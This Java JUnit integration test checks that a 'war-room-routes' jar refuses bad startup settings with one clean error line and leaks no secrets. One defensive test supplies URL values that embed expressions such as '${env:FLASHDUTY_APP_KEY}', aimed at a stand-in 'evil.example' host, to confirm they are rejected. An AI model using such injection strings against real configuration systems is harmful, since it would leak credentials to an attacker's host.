package com.warroom.routes.app;

import java.io.File;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;

import com.warroom.routes.support.TestKafka;
import org.junit.jupiter.api.Test;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The packaged jar refuses a start it cannot make (no app key, an impossible setting): one clear line, no stack trace. */
// no WarRoomTestApp: the jar runs in a JVM of its own and exits before it would reach a broker or the sandbox
class StartupIT {

    private static final Path JAR = Path.of("target/war-room-routes.jar");

    @Test
    void missingAppKeyStopsStartUpWithOneLine() throws Exception {
        assertTrue(JAR.toFile().isFile(), "mvn package builds " + JAR);
        Exit e = start(Map.of());
        assertEquals(2, e.code());
        List<String> lines = e.out().lines().toList();
        assertEquals(1, lines.size(), e.out());
        assertEquals("war-room-routes: FLASHDUTY_APP_KEY (or FLASHDUTY_APP_KEY_FILE) is not set; it is required to call Flashduty", lines.get(0));
    }

    @Test
    void unreadableKeyFileIsOneLineToo() throws Exception {
        Exit e = start(Map.of("FLASHDUTY_APP_KEY_FILE", new File("target/no-such-key-file").getAbsolutePath(),
                "KAFKA_BROKERS", "127.0.0.1:9"));
        assertEquals(2, e.code(), e.out());
        assertTrue(e.out().lines().anyMatch(l -> l.startsWith("war-room-routes: FLASHDUTY_APP_KEY_FILE names a file that cannot be read")), e.out());
        assertTrue(e.out().lines().noneMatch(l -> l.trim().startsWith("at ")), "no stack trace: " + e.out());
    }

    /** Kafka's producer refuses a delivery time-out below its request time-out: said as our setting, before any connection. */
    @Test
    void deliveryTimeoutBelowKafkasMinimumIsOneLine() throws Exception {
        Exit e = start(Map.of("FLASHDUTY_APP_KEY", "startup-it-key", "KAFKA_BROKERS", "127.0.0.1:9", "KAFKA_DELIVERY_TIMEOUT_MS", "10000"));
        assertEquals(2, e.code(), e.out());
        assertTrue(e.out().lines().anyMatch(l -> l.startsWith("war-room-routes: KAFKA_DELIVERY_TIMEOUT_MS must be at least 30000")), e.out());
        assertTrue(e.out().lines().noneMatch(l -> l.trim().startsWith("at ")), "no stack trace: " + e.out());
        assertTrue(e.out().lines().noneMatch(l -> l.contains("startup-it-key")), e.out());
    }

    /** A poll interval that leaves a record less than a full minute window could be exceeded mid-call: refused, one line. */
    @Test
    void aPollIntervalTooShortForARecordIsOneLine() throws Exception {
        Exit e = start(Map.of("FLASHDUTY_APP_KEY", "startup-it-key", "KAFKA_BROKERS", "127.0.0.1:9", "KAFKA_MAX_POLL_INTERVAL_MS", "300000"));
        assertEquals(2, e.code(), e.out());
        assertTrue(e.out().lines().anyMatch(l -> l.startsWith("war-room-routes: KAFKA_MAX_POLL_INTERVAL_MS and KAFKA_MAX_POLL_RECORDS leave each record 2000 ms")),
                e.out());
        assertTrue(e.out().lines().noneMatch(l -> l.trim().startsWith("at ")), "no stack trace: " + e.out());
    }

    /** A Kafka client setting Kafka's own clients refuse (an address that is not host:port) can never succeed: one line, not a retry. */
    @Test
    void aKafkaSettingTheClientsRefuseIsOneLine() throws Exception {
        Exit e = start(Map.of("FLASHDUTY_APP_KEY", "startup-it-key", "KAFKA_BROKERS", "nohost", "MANAGEMENT_PORT", String.valueOf(TestKafka.freePort())));
        assertEquals(2, e.code(), e.out());
        assertTrue(e.out().lines().anyMatch(l -> l.equals("war-room-routes: a Kafka client setting is refused: Invalid url in bootstrap.servers: nohost")),
                e.out());
        assertTrue(e.out().lines().noneMatch(l -> l.trim().startsWith("at ")), "no stack trace: " + e.out());
    }

    /** A Kafka client file that cannot be used (missing, or changing the module's guarantees): one line naming the variable and path, never its content. */
    @Test
    void aKafkaClientFileThatCannotBeUsedIsOneLine() throws Exception {
        String missing = new File("target/no-such-kafka-file").getAbsolutePath();
        String acks = new File(TestKafka.clientPropertiesFile("startup-it-acks.properties", "ssl.key.password=startup-it-secret", "acks=0"))
                .getAbsolutePath();
        Map<Map<String, String>, String> cases = Map.of(
                Map.of("KAFKA_CLIENT_PROPERTIES_FILE", missing), "KAFKA_CLIENT_PROPERTIES_FILE names a file that cannot be read: " + missing,
                Map.of("KAFKA_SSL_KEY_PASSWORD_FILE", missing), "KAFKA_SSL_KEY_PASSWORD_FILE names a file that cannot be read: " + missing,
                Map.of("KAFKA_CLIENT_PROPERTIES_FILE", acks), "KAFKA_CLIENT_PROPERTIES_FILE sets acks, which the module sets itself: remove it from " + acks);
        for (Map.Entry<Map<String, String>, String> c : cases.entrySet()) {
            Map<String, String> env = new java.util.HashMap<>(c.getKey());
            env.putAll(Map.of("FLASHDUTY_APP_KEY", "startup-it-key", "KAFKA_BROKERS", "127.0.0.1:9"));
            Exit e = start(env);
            assertEquals(2, e.code(), e.out());
            assertEquals(1, e.out().lines().filter(l -> l.startsWith("war-room-routes: ")).count(), e.out());
            assertTrue(e.out().lines().anyMatch(l -> l.equals("war-room-routes: " + c.getValue())), e.out());
            assertTrue(e.out().lines().noneMatch(l -> l.trim().startsWith("at ") || l.contains("startup-it-secret")), e.out());
        }
    }

    /** A setting the routes evaluate must be plain data: an expression in it is refused before anything is sent anywhere. */
    @Test
    void aUrlSettingThatHoldsAnExpressionIsRefusedWithoutRepeatingIt() throws Exception {
        for (String url : new String[] {"https://evil.example/${env:FLASHDUTY_APP_KEY}", "https://evil.example/{{env:FLASHDUTY_APP_KEY}}"}) {
            Exit e = start(Map.of("FLASHDUTY_APP_KEY", "startup-it-key", "KAFKA_BROKERS", "127.0.0.1:9", "ROCKETCHAT_URL", url));
            assertEquals(2, e.code(), e.out());
            assertTrue(e.out().lines().anyMatch(l -> l.startsWith("war-room-routes: ROCKETCHAT_URL (rocketchat.url) ")), e.out());
            assertTrue(e.out().lines().noneMatch(l -> l.contains("startup-it-key") || l.contains("evil.example")), e.out());
        }
    }

    private record Exit(int code, String out) {
    }

    /** Runs the jar with this environment (no app key unless given) until it exits by itself; its output, stdout and stderr. */
    private static Exit start(Map<String, String> env) throws Exception {
        ProcessBuilder pb = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-jar", JAR.toString())
                .redirectErrorStream(true);
        pb.environment().remove("FLASHDUTY_APP_KEY");
        pb.environment().remove("FLASHDUTY_APP_KEY_FILE");
        pb.environment().putAll(env);
        Process p = pb.start();
        assertTrue(p.waitFor(60, TimeUnit.SECONDS), "exits by itself");
        return new Exit(p.exitValue(), TestKafka.text(p.getInputStream().readAllBytes()).trim());
    }
}
